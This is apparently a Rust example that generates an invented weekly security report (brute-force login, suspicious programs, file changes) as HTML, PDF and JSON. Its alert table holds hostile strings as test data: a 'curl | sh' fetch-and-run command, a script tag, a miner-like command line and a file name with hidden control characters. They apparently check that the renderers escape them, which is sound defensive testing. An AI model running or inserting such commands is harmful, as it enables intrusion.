//! A weekly report of a week that never was, as HTML, PDF and JSON:
//! `cargo run -p watchpost-report --example sample -- FOLDER [ru]`.
#![expect(clippy::unwrap_used, reason = "an example")]

use std::path::Path;

use jiff::tz::TimeZone;
use watchpost_event::{Severity, Timestamp};
use watchpost_report::{
    Align, Amount, Bar, BarChart, Better, Block, Cell, Column, Finding, KeyNumber, Language, Report, Section, Series,
    Step, Table, TimeChart, Tone, Version, html, pdf,
};

fn main() {
    let mut arguments = std::env::args().skip(1);
    let folder = arguments.next().unwrap_or_else(|| ".".to_owned());
    let russian = arguments.next().as_deref() == Some("ru");
    let report = report(if russian { Language::Ru } else { Language::En });
    let file = |ending: &str| Path::new(&folder).join(format!("weekly-{}.{ending}", if russian { "ru" } else { "en" }));
    std::fs::write(file("html"), html(&report)).unwrap();
    std::fs::write(file("pdf"), pdf(&report).unwrap()).unwrap();
    std::fs::write(file("json"), serde_json::to_vec_pretty(&report).unwrap()).unwrap();
}

fn report(language: Language) -> Report {
    let say = Say(language);
    Report {
        version: Version,
        title: say.of("Weekly security report", "Отчёт о безопасности за неделю"),
        subject: Some(say.of("All hosts of the Riga office", "Все узлы офиса в Риге")),
        from: time("2026-11-15T22:00:00Z"),
        to: time("2026-11-22T22:00:00Z"),
        made: time("2026-11-23T05:00:00Z"),
        zone: TimeZone::get("Europe/Riga").unwrap(),
        language,
        summary: summary(say),
        sections: vec![
            overview(say),
            alerts(say),
            logins(say),
            integrity(say),
            network(say),
            delivery(say),
        ],
    }
}

/// Says everything in the report's language.
#[derive(Clone, Copy)]
struct Say(Language);

impl Say {
    fn of(self, en: &str, ru: &str) -> String {
        match self.0 {
            Language::En => en.to_owned(),
            Language::Ru => ru.to_owned(),
        }
    }
}

fn time(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn summary(say: Say) -> Vec<Finding> {
    let finding = |tone, en, ru| Finding {
        tone,
        text: say.of(en, ru),
    };
    vec![
        finding(
            Tone::Bad,
            "Someone guessed passwords on gw-1 for six hours on Thursday and got in as backup at 03:12. The account was locked eleven minutes later.",
            "В четверг на gw-1 шесть часов подбирали пароли и в 03:12 вошли как backup. Через одиннадцать минут учётную запись закрыли.",
        ),
        finding(
            Tone::Attention,
            "Three programs that had never run before were started on db-2, one of them from /tmp.",
            "На db-2 запущены три программы, которых раньше не было, одна из них из /tmp.",
        ),
        finding(
            Tone::Plain,
            "41 packages were updated on 17 hosts; nothing was removed.",
            "На 17 узлах обновлён 41 пакет; ничего не удалено.",
        ),
        finding(
            Tone::Good,
            "All 24 hosts reported the whole week. Nothing that was read got lost.",
            "Все 24 узла передавали данные всю неделю. Ничего из прочитанного не потеряно.",
        ),
    ]
}

fn number(label: String, amount: Amount, before: Option<Amount>, better: Option<Better>) -> KeyNumber {
    KeyNumber {
        label,
        amount,
        before,
        better,
        tone: Tone::Plain,
    }
}

fn overview(say: Say) -> Section {
    let (fewer, more) = (Some(Better::Fewer), Some(Better::More));
    let count = |n| Some(Amount::Count(n));
    let mut critical = number(
        say.of("Critical alerts", "Критические оповещения"),
        Amount::Count(3),
        count(0),
        fewer,
    );
    critical.tone = Tone::Bad;
    let numbers = vec![
        number(say.of("Alerts", "Оповещения"), Amount::Count(128), count(171), fewer),
        critical,
        number(
            say.of("Failed logins", "Неудачные входы"),
            Amount::Count(18_204),
            count(2_411),
            fewer,
        ),
        number(
            say.of("Hosts that reported", "Узлы на связи"),
            Amount::Count(24),
            count(24),
            more,
        ),
        number(
            say.of("Events", "События"),
            Amount::Count(48_112_907),
            count(45_900_112),
            None,
        ),
        number(
            say.of("Stored", "Сохранено"),
            Amount::Bytes(31_400_000_000),
            Some(Amount::Bytes(30_100_000_000)),
            None,
        ),
        number(
            say.of("Programs seen first", "Новые программы"),
            Amount::Count(9),
            count(14),
            None,
        ),
        number(
            say.of("Longest silence", "Самая долгая тишина"),
            Amount::Seconds(312),
            Some(Amount::Seconds(5_400)),
            fewer,
        ),
    ];
    Section {
        title: say.of("What happened", "Что произошло"),
        intro: Some(say.of(
            "The week in numbers, each with that of the week before.",
            "Неделя в числах; рядом с каждым число предыдущей недели.",
        )),
        blocks: vec![
            Block::Numbers { numbers },
            Block::Times(by_day(say)),
            Block::Times(by_hour(say)),
        ],
    }
}

fn by_day(say: Say) -> TimeChart {
    let series = |severity, counts: [u64; 7]| Series {
        severity: Some(severity),
        label: None,
        counts: counts.to_vec(),
    };
    TimeChart {
        title: Some(say.of("Alerts by day", "Оповещения по дням")),
        from: time("2026-11-15T22:00:00Z"),
        step: Step::Day,
        series: vec![
            series(Severity::Info, [8, 6, 9, 7, 6, 2, 1]),
            series(Severity::Warning, [6, 5, 4, 12, 5, 1, 2]),
            series(Severity::Error, [3, 1, 2, 14, 4, 0, 0]),
            series(Severity::Critical, [0, 0, 0, 3, 0, 0, 0]),
        ],
    }
}

fn by_hour(say: Say) -> TimeChart {
    let wave = |n: u64| 180 + (n % 24) * (24 - n % 24) * 9 + n * 37 % 90;
    let attack = |n: u64| if (70..77).contains(&n) { 2_400 } else { 4 };
    let series = |severity, label: String, counts| Series {
        severity,
        label: Some(label),
        counts,
    };
    TimeChart {
        title: Some(say.of("Logins by hour", "Входы по часам")),
        from: time("2026-11-15T22:00:00Z"),
        step: Step::Hour,
        series: vec![
            series(None, say.of("succeeded", "успешные"), (0..168).map(wave).collect()),
            series(
                Some(Severity::Error),
                say.of("failed", "неудачные"),
                (0..168).map(attack).collect(),
            ),
        ],
    }
}

fn column(title: String, align: Align) -> Column {
    Column { title, align }
}

fn alerts(say: Say) -> Section {
    let bar = |en, ru, count, severity| Bar {
        label: say.of(en, ru),
        count,
        severity: Some(severity),
    };
    let bars = vec![
        bar(
            "Many failed logins from one address",
            "Много неудачных входов с одного адреса",
            41,
            Severity::Error,
        ),
        bar(
            "A service was restarted again and again",
            "Служба перезапускается снова и снова",
            33,
            Severity::Warning,
        ),
        bar("sudo by someone new", "sudo от нового пользователя", 22, Severity::Info),
        bar(
            "A program ran from a temporary folder",
            "Программа запущена из временной папки",
            14,
            Severity::Error,
        ),
        bar(
            "Login after many failures",
            "Вход после многих неудач",
            3,
            Severity::Critical,
        ),
    ];
    Section {
        title: say.of("Alerts", "Оповещения"),
        intro: None,
        blocks: vec![
            Block::Bars(BarChart {
                title: Some(say.of("By rule", "По правилам")),
                bars,
                more: 6,
            }),
            Block::Table(newest_alerts(say)),
        ],
    }
}

fn newest_alerts(say: Say) -> Table {
    let row = |at: &str, severity, rule: String, host: &str, what: &str| {
        vec![
            Cell::Time(time(at)),
            Cell::Severity(severity),
            Cell::Text(rule),
            Cell::Text(host.to_owned()),
            Cell::Code(what.to_owned()),
        ]
    };
    let guessed = || say.of("Login after many failures", "Вход после многих неудач");
    let temporary = || {
        say.of(
            "A program ran from a temporary folder",
            "Программа запущена из временной папки",
        )
    };
    let mut rows = vec![
        row(
            "2026-11-19T01:12:09Z",
            Severity::Critical,
            guessed(),
            "gw-1",
            "backup from 203.0.113.77 port 51022",
        ),
        row(
            "2026-11-19T01:14:40Z",
            Severity::Error,
            temporary(),
            "db-2",
            "/tmp/.x/kworker --threads 8 -o 198.51.100.9:443",
        ),
        row(
            "2026-11-19T01:14:52Z",
            Severity::Error,
            temporary(),
            "db-2",
            "sh -c 'curl -fsS http://198.51.100.9/a | sh' <script>alert(1)</script>",
        ),
        row(
            "2026-11-19T01:15:01Z",
            Severity::Warning,
            temporary(),
            "db-2",
            "invoice\u{202e}fdp.exe\u{1b}[2J",
        ),
    ];
    rows.extend((0..34).map(|n| guess(say, n)));
    Table {
        title: Some(say.of("The most severe", "Самые важные")),
        columns: vec![
            column(say.of("Time", "Время"), Align::Left),
            column(say.of("Severity", "Важность"), Align::Left),
            column(say.of("Rule", "Правило"), Align::Left),
            column(say.of("Host", "Узел"), Align::Left),
            column(say.of("What", "Что"), Align::Left),
        ],
        rows,
        rows_max: 30,
        more: 86,
    }
}

fn guess(say: Say, n: u64) -> Vec<Cell> {
    let rule = say.of(
        "Many failed logins from one address",
        "Много неудачных входов с одного адреса",
    );
    vec![
        Cell::Time(time(&format!(
            "2026-11-{:02}T{:02}:{:02}:17Z",
            20 + n % 3,
            n % 24,
            n * 7 % 60
        ))),
        Cell::Severity(Severity::Error),
        Cell::Text(rule),
        Cell::Text(["gw-1", "gw-2", "web-1"][(n % 3) as usize].to_owned()),
        Cell::Code(format!(
            "203.0.113.{}: {} tries of {} names",
            10 + n,
            40 + n * 3,
            3 + n % 9
        )),
    ]
}

fn logins(say: Say) -> Section {
    let row = |who: &str, from: &str, good: u64, bad: u64, last: &str| {
        vec![
            Cell::Text(who.to_owned()),
            Cell::Code(from.to_owned()),
            Cell::Amount(Amount::Count(good)),
            Cell::Amount(Amount::Count(bad)),
            Cell::Time(time(last)),
        ]
    };
    let table = Table {
        title: Some(say.of("Who came in from where", "Кто и откуда входил")),
        columns: vec![
            column(say.of("User", "Пользователь"), Align::Left),
            column(say.of("From", "Откуда"), Align::Left),
            column(say.of("Succeeded", "Успешно"), Align::Right),
            column(say.of("Failed", "Неудачно"), Align::Right),
            column(say.of("Last", "Последний раз"), Align::Left),
        ],
        rows: vec![
            row("anna", "10.0.4.17", 214, 2, "2026-11-22T16:20:11Z"),
            row("deploy", "10.0.4.30", 1_480, 0, "2026-11-22T21:59:58Z"),
            row("backup", "203.0.113.77", 1, 16_902, "2026-11-19T01:12:09Z"),
            row("Жанна Ёлкина", "2001:db8:4:17::9", 31, 1, "2026-11-20T08:01:45Z"),
            row("张伟", "10.0.7.3", 12, 0, "2026-11-18T07:30:00Z"),
        ],
        rows_max: 20,
        more: 0,
    };
    Section {
        title: say.of("Logins", "Входы"),
        intro: Some(say.of(
            "Logins over SSH, at the console and to Windows, of all hosts.",
            "Входы по SSH, с консоли и в Windows на всех узлах.",
        )),
        blocks: vec![Block::Table(table)],
    }
}

fn integrity(say: Say) -> Section {
    let row = |path: &str, change: String, hash: &str, who: Cell| {
        vec![
            Cell::Code(path.to_owned()),
            Cell::Text(change),
            Cell::Code(hash.to_owned()),
            who,
        ]
    };
    let text = |text: &str| Cell::Text(text.to_owned());
    let table = Table {
        title: Some(say.of("Files that changed", "Изменённые файлы")),
        columns: vec![
            column(say.of("File", "Файл"), Align::Left),
            column(say.of("Change", "Изменение"), Align::Left),
            column("SHA-256".to_owned(), Align::Left),
            column(say.of("By", "Кем"), Align::Left),
        ],
        rows: vec![
            row(
                "/etc/ssh/sshd_config",
                say.of("content", "содержимое"),
                "9f2b1c7ad04e5b6f8a7712c3d9e0f14b5a6c7d8e9f00112233445566778899aa",
                text("anna"),
            ),
            row(
                "/etc/sudoers.d/90-backup",
                say.of("created, mode 0440", "создан, режим 0440"),
                "44e1a0c3b5d7f90812a4c6e8f0b1d3f5a7c9ebfd10325476981badcfe0f21436",
                text("root"),
            ),
            row(
                "/usr/local/bin/rotate-keys-for-all-tenants-and-report-to-the-central-service.sh",
                say.of("owner", "владелец"),
                "0b8e7c1d2f3a495867a6b5c4d3e2f10011f0e1d2c3b4a5968778695a4b3c2d1e",
                Cell::Unknown,
            ),
        ],
        rows_max: 20,
        more: 0,
    };
    Section {
        title: say.of("Integrity", "Целостность"),
        intro: None,
        blocks: vec![
            Block::Table(table),
            Block::Nothing {
                text: say.of(
                    "kernel modules that were not there the week before.",
                    "модули ядра, которых не было неделей раньше.",
                ),
            },
        ],
    }
}

fn network(say: Say) -> Section {
    let bar = |label: &str, count| Bar {
        label: label.to_owned(),
        count,
        severity: None,
    };
    Section {
        title: say.of("Top talkers", "Кто больше всех говорил"),
        intro: Some(say.of(
            "Connections that hosts of ours opened.",
            "Соединения, открытые нашими узлами.",
        )),
        blocks: vec![Block::Bars(BarChart {
            title: None,
            bars: vec![
                bar("web-1 → 10.0.9.4:5432", 1_204_331),
                bar("web-2 → 10.0.9.4:5432", 1_198_007),
                bar("mail-1 → mx.example.net:25", 220_118),
                bar("db-2 → 198.51.100.9:443", 61_022),
                bar("build-3 → registry.example.org:443", 9_400),
            ],
            more: 214,
        })],
    }
}

fn delivery(say: Say) -> Section {
    let text = say.of(
        "Every stream was followed from the source to the store. On mail-1 the agent was not running for five minutes on Tuesday while the host was restarted; the files it reads were read afterwards, so nothing is missing of them.",
        "Каждый поток прослежен от источника до хранилища. На mail-1 во вторник агент не работал пять минут, пока узел перезагружался; файлы дочитаны после этого, поэтому из них ничего не пропало.",
    );
    Section {
        title: say.of("Delivery", "Доставка"),
        intro: None,
        blocks: vec![
            Block::Text { text },
            Block::Nothing {
                text: say.of("gaps in what was delivered.", "пропуски в доставленном."),
            },
        ],
    }
}
